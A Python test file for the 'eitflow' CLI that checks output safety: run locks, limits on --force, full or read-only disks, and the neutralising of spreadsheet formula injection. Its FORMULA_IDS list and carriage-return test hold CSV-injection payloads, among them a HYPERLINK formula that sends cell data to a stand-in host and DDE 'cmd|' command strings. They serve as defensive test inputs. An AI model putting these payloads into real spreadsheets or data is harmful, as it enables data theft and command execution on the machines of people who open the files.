"""Outputs are safe: nothing is lost or overwritten (two runs on one --out, --force only on
run directories, read-only or full destinations refused or failing cleanly, nothing half
written), and no spreadsheet output carries a live formula."""
from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import ROOT, write_scenario
from eitflow.cli.main import main
from hard_scenarios import write_hard_scenario

EXAMPLE = ROOT / "scenarios" / "zae_example" / "scenario.yaml"


def _run(*args: str):
    return CliRunner().invoke(main, ["run", *map(str, args)])


def _listing(d: Path) -> dict[str, bytes]:
    return {str(p.relative_to(d)): p.read_bytes() for p in sorted(d.rglob("*")) if p.is_file()}


# --- two runs at once on the same --out ------------------------------------------------------

def _cli(*args: str) -> list[str]:
    return [sys.executable, "-c", "from eitflow.cli import main; main()", *map(str, args)]


@pytest.mark.parametrize("trial", [0])
@pytest.mark.slow
def test_two_runs_on_the_same_out_never_both_write(tmp_path, trial):
    """Started at once: one writes, the other is refused before solving (exit 2, naming the
    other run), and the run directory is the winner's, whole. It used to be that both said
    "written" and one result silently replaced the other."""
    scen = write_hard_scenario(tmp_path / "scen", m=15, n=15, time_limit_s=3)
    out = tmp_path / "runs" / "out"
    procs = [subprocess.Popen(_cli("run", scen, "--out", out, "-q"), stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE) for _ in range(2)]
    res = [(p.wait(60), p.communicate()) for p in procs]
    codes = sorted(r[0] for r in res)
    # the winner solves (exit 0), or on a busy machine may find no solution in 3 s (exit 1):
    # either way it writes its run directory
    assert codes in ([0, 2], [1, 2]), res
    loser = next(r for r in res if r[0] == 2)
    # the holder named (the lock file's command); "another eitflow run" where the loser read the
    # file in the instant between its truncation and its record (`target.lock_record`)
    said = loser[1][1]
    assert b"being written by 'eitflow run'" in said or b"another eitflow run" in said or b"already exists" in said, loser
    assert sorted(p.name for p in out.parent.iterdir()) == ["out"]
    status = json.loads((out / "summary.json").read_text())["status"]
    assert status == ("time_limit" if codes[0] == 1 else "feasible") or status == "optimal" and codes[0] == 0


@pytest.mark.slow
@pytest.mark.parametrize("trial", range(5))
def test_two_runs_on_the_same_out_never_both_write_again(tmp_path, trial):
    test_two_runs_on_the_same_out_never_both_write(tmp_path, trial)


def test_a_held_lock_refuses_a_second_run(tmp_path):
    from eitflow.results.target import RunBusyError, RunLock

    out = tmp_path / "runs" / "out"
    with RunLock(out):
        with pytest.raises(RunBusyError, match=rf"process {os.getpid()}"):
            RunLock(out).acquire()
        res = _run(EXAMPLE, "--out", out)
        assert res.exit_code == 2 and "being written by 'eitflow run'" in res.output
    assert not out.exists() and list(out.parent.iterdir()) == []  # the lock file is gone too
    assert _run(EXAMPLE, "--out", out).exit_code == 0


# --- --force replaces only run directories ---------------------------------------------------

def test_force_never_replaces_a_file_a_user_directory_or_the_inputs(tmp_path, monkeypatch):
    scen = write_scenario(tmp_path / "scen")
    plain = tmp_path / "notes.txt"
    plain.write_text("my notes")
    user = tmp_path / "mydir"
    user.mkdir()
    (user / "thesis.docx").write_text("years of work")
    fake = tmp_path / "fake_run"  # a summary.json not written by eitflow
    fake.mkdir()
    (fake / "summary.json").write_text('{"title": "my summary"}')
    cases = [(plain, "is a file"), (user, "not an eitflow run directory"), (fake, "not an eitflow run directory"),
             (scen.parent, "not an eitflow run directory")]
    before = _listing(tmp_path)
    for target, fragment in cases:
        res = _run(scen, "--out", target, "--force")
        assert res.exit_code == 2 and fragment in res.output and "Traceback" not in res.output, res.output
    # the scenario's directory, even once it holds an eitflow run's summary.json
    assert _run(scen, "--out", tmp_path / "run").exit_code == 0
    (scen.parent / "summary.json").write_bytes((tmp_path / "run" / "summary.json").read_bytes())
    res = _run(scen, "--out", scen.parent, "--force")
    assert res.exit_code == 2 and "holds the scenario's input" in res.output
    (scen.parent / "summary.json").unlink()
    # the current directory (the scenario inside it was deleted)
    monkeypatch.chdir(tmp_path / "run")
    res = _run(scen, "--out", ".", "--force")
    assert res.exit_code == 2 and "current directory" in res.output
    res = _run(scen, "--out", "..", "--force")
    assert res.exit_code == 2 and "current directory" in res.output
    after = _listing(tmp_path)
    assert {k: v for k, v in after.items() if k in before} == before  # nothing touched


def test_force_replaces_a_run_directory_in_one_step(tmp_path):
    scen = write_scenario(tmp_path / "scen")
    out = tmp_path / "run"
    assert _run(scen, "--out", out).exit_code == 0
    (out / "stale.csv").write_text("from an older version")
    res = _run(scen, "--out", out)
    assert res.exit_code == 2 and "--force" in res.output
    assert _run(scen, "--out", out, "--force").exit_code == 0
    assert not (out / "stale.csv").exists() and (out / "summary.json").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run", "scen"]  # no staging or lock left


# --- read-only, missing and full destinations ------------------------------------------------

@contextlib.contextmanager
def _tmpfs(path: Path, size: str, ro: bool = False):
    path.mkdir(parents=True, exist_ok=True)
    opts = f"size={size}" + (",ro" if ro else "")
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(path)], capture_output=True)
    if r.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({r.stderr.decode().strip()}): the monkeypatched test covers it")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], capture_output=True)


def test_unwritable_destinations_are_refused_before_solving(tmp_path):
    scen = write_scenario(tmp_path / "scen")
    (tmp_path / "afile").write_text("x")
    res = _run(scen, "--out", tmp_path / "afile" / "run")
    assert res.exit_code == 2 and "is a file, not a directory" in res.output
    with _tmpfs(tmp_path / "ro", "64k", ro=True) as ro:
        t0 = time.perf_counter()
        res = _run(scen, "--out", ro / "run")
        assert res.exit_code == 2 and "read-only file system" in res.output and "Traceback" not in res.output
        assert "status:" not in res.output  # refused before solving
        assert time.perf_counter() - t0 < 10
    with _tmpfs(tmp_path / "full", "8k") as full:
        (full / "filler").write_bytes(b"x" * 8192)
        res = _run(scen, "--out", full / "run")
        assert res.exit_code == 2 and "is full" in res.output


def test_a_full_disk_leaves_nothing_half_written(tmp_path):
    """--report on a file system that fills up: exit 1, a clean message, no `.tmp` file and
    no partial run -- neither a new one nor inside a committed one (replaced with --force)."""
    with _tmpfs(tmp_path / "disk", "192k") as disk:
        res = _run(EXAMPLE, "--out", disk / "run", "--report")
        assert res.exit_code == 1, res.output
        assert "No space left on device" in res.output and "nothing was written" in res.output
        assert "Traceback" not in res.output
        assert list(disk.iterdir()) == []
        assert _run(EXAMPLE, "--out", disk / "run", "-q").exit_code == 0  # fits without the report
        before = _listing(disk)
        res = _run(EXAMPLE, "--out", disk / "run", "--force", "--report")
        # refused before solving (too little room left) or failing while writing: either way clean
        assert (res.exit_code, "No space left on device" in res.output or "is full" in res.output) in (
            (1, True), (2, True)), res.output
        assert _listing(disk) == before  # the committed run untouched, no .tmp inside or beside it


def test_a_failing_report_write_leaves_the_destination_as_it_was(tmp_path, monkeypatch):
    """The same without a tmpfs: the report's write raises ENOSPC."""
    import errno

    import eitflow.report.html as H

    def full(*a, **k):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    out = tmp_path / "run"
    assert _run(EXAMPLE, "--out", out, "-q").exit_code == 0
    before = _listing(tmp_path)
    monkeypatch.setattr(H, "render_html", full)
    res = _run(EXAMPLE, "--out", out, "--force", "--report")
    assert res.exit_code == 1 and "No space left on device" in res.output and "Traceback" not in res.output
    assert _listing(tmp_path) == before and sorted(p.name for p in tmp_path.iterdir()) == ["run"]


# --- no live formula in spreadsheet outputs ---------------------------------------------------

FORMULA_IDS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
               "\tTAB", "'quoted", "\rCR"]


def test_formula_prefixes_are_neutralised_and_numbers_stay_numbers(tmp_path):
    """Site ids and names starting with = + - @ or a tab are text in matches.csv (a leading
    apostrophe) and in results.xlsx (a string cell with Excel's quote prefix); a negative net
    benefit stays a number; the run reads back with the ids as given."""
    import openpyxl

    from eitflow.results.rundir import read_run
    ids = {"S0": FORMULA_IDS[0], "D0": FORMULA_IDS[2]}
    sites = pd.DataFrame({"site_id": [ids["S0"], ids["D0"], "S1", "D1"], "name": ["=cmd()", "@x", "+y", "plain"],
                          "lat": [50.28, 50.29, 50.30, 50.31], "lon": [3.97, 3.98, 3.99, 4.00]})
    flows = pd.DataFrame({"site_id": [ids["S0"], ids["D0"], "S1", "D1"],
                          "direction": ["supply", "demand", "supply", "demand"], "resource": "heat",
                          "amount": [30, 12, 30, 9], "unit": ["GWh/yr", "GWh/yr", "GWh/yr", "GWh/yr"],
                          "temperature_c": [130, 90, 130, 60], "price_eur_per_unit": [0, 0, 0, 40],
                          "required": [False, True, False, False], "min_amount": [0, 0, 0, 0]})
    root = tmp_path / "scen"
    root.mkdir()
    sites.to_csv(root / "sites.csv", index=False)
    flows.to_csv(root / "flows.csv", index=False)
    # the required demand pays nothing for its heat: its link has a negative net benefit
    (root / "scenario.yaml").write_text("name: formulas\nsites: sites.csv\nflows: flows.csv\n"
                                        "max_distance_km: {heat: 50}\n")
    out = tmp_path / "run"
    res = _run(root / "scenario.yaml", "--out", out, "--excel")
    assert res.exit_code == 0, res.output
    m = pd.read_csv(out / "matches.csv", dtype=str, keep_default_na=False)
    u = pd.read_csv(out / "unmatched.csv", dtype=str, keep_default_na=False)
    assert "'" + ids["D0"] in set(m["sink_site"])          # the forced link to the demand "-2+3"
    assert "'" + ids["S0"] in set(u["site_id"])            # the unused supply "=HYPERLINK(...)"
    for f in (out / "matches.csv", out / "unmatched.csv", out / "companies.csv"):
        cells = pd.read_csv(f, dtype=str, keep_default_na=False).to_numpy().ravel()
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), f
        assert all(c.startswith("'") or not c.startswith("-") or _is_number(c) for c in cells), f
    num = pd.to_numeric(m["net_benefit_eur_per_yr"], errors="raise")  # numbers stay numbers
    assert (num < 0).any()
    back = read_run(out)
    assert ids["D0"] in set(back.matches["sink_site"]) and ids["S0"] in set(back.unmatched["site_id"])
    wb = openpyxl.load_workbook(out / "results.xlsx")
    formulas, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append((ws.title, c.coordinate, c.value))
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t")):
                    texts.append(c)
    assert formulas == []
    assert texts and all(c.data_type == "s" and c.quotePrefix for c in texts)
    assert any(c.value == ids["S0"] for c in texts)  # the text itself is unchanged


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_rule_is_undone_exactly():
    from eitflow.results.spreadsheet import neutralise_frame, neutralise_text, restore_frame, restore_text
    for v in FORMULA_IDS + ["plain", "", "'", "''=", "=", "a=b", "-"]:
        assert restore_text(neutralise_text(v)) == v.replace("\r", "\n")  # a line break is written LF
    df = pd.DataFrame({"id": FORMULA_IDS, "x": [-1.5, 2.0, -3.0, 4.0, 5.0, -6.0, 7.0]})
    out = neutralise_frame(df)
    assert out["x"].tolist() == df["x"].tolist() and out["id"].str.startswith("'").all()
    assert restore_frame(out.copy(), ["id"])["id"].tolist() == [v.replace("\r", "\n") for v in FORMULA_IDS]


def test_a_carriage_return_inside_a_cell_never_starts_a_row(tmp_path):
    """A name with a carriage return in the middle: written raw, a spreadsheet (and any CSV
    reader) ends the row there, and what follows -- here a formula -- starts a row
    of its own, live. Line breaks inside a cell are written as a quoted LF: every row keeps
    the header's width and no cell starts a formula."""
    import csv

    evil = "Usine\r=2+5*cmd|x!A0"  # no comma or quote: nothing else makes the writer quote it
    sites = pd.DataFrame({"site_id": ["S0", "D0"], "name": [evil, "two\r\nlines"],
                          "lat": [50.28, 50.29], "lon": [3.97, 3.98]})
    flows = pd.DataFrame({"site_id": ["S0", "D0"], "direction": ["supply", "demand"], "resource": "heat",
                          "amount": [30, 12], "unit": "GWh/yr", "temperature_c": [130, 60],
                          "price_eur_per_unit": [0, 40]})
    root = tmp_path / "scen"
    root.mkdir()
    for name, df in (("sites", sites), ("flows", flows)):
        with open(root / f"{name}.csv", "w", newline="", encoding="utf-8") as fh:  # CRs quoted in the input
            csv.writer(fh, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([df.columns, *df.astype(str).values])
    (root / "scenario.yaml").write_text("name: cr\nsites: sites.csv\nflows: flows.csv\n")
    out = tmp_path / "run"
    res = _run(root / "scenario.yaml", "--out", out)
    assert res.exit_code == 0, res.output
    files = sorted(out.glob("*.csv"))
    assert any("Usine" in f.read_text(encoding="utf-8") for f in files)  # the name is written somewhere
    for f in files:
        assert b"\r" not in f.read_bytes(), f
        with open(f, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        assert all(len(r) == len(rows[0]) for r in rows), f
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows[1:] for c in r), f


_CELL = st.one_of(st.none(), st.floats(allow_nan=True), st.text(alphabet="ab=+-@'\t\r\n\x00 ", max_size=6))


@given(st.lists(_CELL, min_size=1, max_size=30))
@settings(max_examples=100, deadline=None)
def test_neutralise_frame_follows_the_rule_cell_by_cell(cells):
    """Every kind of cell (text with formula prefixes, CR, NUL; missing; numbers) against the
    rule written out cell by cell."""
    from eitflow.results.spreadsheet import neutralise_frame

    def rule(v):
        if not isinstance(v, str):
            return v
        lead = "'" if v[:1] in ("=", "+", "-", "@", "\t", "\r", "'") else ""
        return lead + v.replace("\r\n", "\n").replace("\r", "\n")

    got = neutralise_frame(pd.DataFrame({"c": pd.Series(cells, dtype=object)}))["c"].tolist()
    want = [rule(v) for v in cells]
    def norm(v):  # missing (None or NaN) is written as an empty cell either way
        return (type(v), v) if isinstance(v, str) or not pd.isna(v) else "missing"

    assert [norm(g) for g in got] == [norm(w) for w in want]
    texts = [v for v in cells if isinstance(v, str)]   # an all-text column
    if texts:
        got = neutralise_frame(pd.DataFrame({"c": pd.Series(texts, dtype=object)}))["c"].tolist()
        assert got == [rule(v) for v in texts]
